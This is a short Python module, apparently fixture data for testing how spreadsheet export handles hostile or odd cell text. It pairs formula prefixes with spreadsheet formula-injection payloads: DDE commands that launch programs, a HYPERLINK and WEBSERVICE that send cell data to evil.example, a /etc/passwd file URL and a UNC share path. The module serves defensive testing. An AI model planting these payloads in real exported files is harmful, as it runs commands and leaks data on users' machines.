"""Texts that a spreadsheet runs, drops or reads as something else."""

_FORMULAS = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?"&A1,"点我")', "SUM(A1:A9)",
    'WEBSERVICE("http://evil.example")', "DDE(\"cmd\";\"/C calc\";\"x\")", "IMPORTXML(A1,A2)",
    "A1", "2+5+cmd|' /C calc'!A0", "@SUM(1)", "rundll32|'URL.dll,OpenURL calc.exe'!A",
)  # fmt: skip
_OPENINGS = (
    "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "　=", "＝", "＋", "－", "＠", "'=", '"=',
    "=-+@", "\ufeff=", "\u200b=", "%0A=",
)  # fmt: skip
_OTHERS = (
    "_x000D_", "甲_x000A_乙", "_x005F_x000D_", "x005F_", "_x005F_", "_X000D_", "_x003D_1+1",
    "两\n行", "回\r\n车", "跳\t格", "零\x00字", "\x01\x02\x08\x0b\x0c\x0e\x1f", "\x1b[31m红",
    "\x7f\x80\x85\x9f", "\ufffe\uffff", "\ud800孤", "孤\udfff", "\U0001fffe", "\u2028行\u2029段",
    "\u202e倒\u2066x", "𠮷👨‍👩‍👧é", "  首尾空格  ", "甲  乙", "#N/A", "#REF!",
    "#DIV/0!", "TRUE", "FALSE", "NULL",
    "1e5", "007", "0.10", "1,000", "50%", "3/5", "2024-03-01", "12:30", "1E+400", "NaN", "-inf",
    "<f>1+1</f>", "</t></is></c><c><f>1+1</f></c>", "]]>", "<![CDATA[x]]>", "&lt;f&gt;", "&amp;=1",
    "<?xml version='1.0'?>", "'", "''=1", '"', '""', ";", ",", "|", '","=1+1,"', "\\", "甲\",\"乙",
    "{=1+1}", "[Book1]Sheet1!A1", "$A$1", "A1:B2", "file:///etc/passwd", "\\\\evil\\share",
)  # fmt: skip
TEXTS = tuple(dict.fromkeys([o + f for o in _OPENINGS for f in _FORMULAS] + list(_OTHERS)))
assert len(TEXTS) >= 250
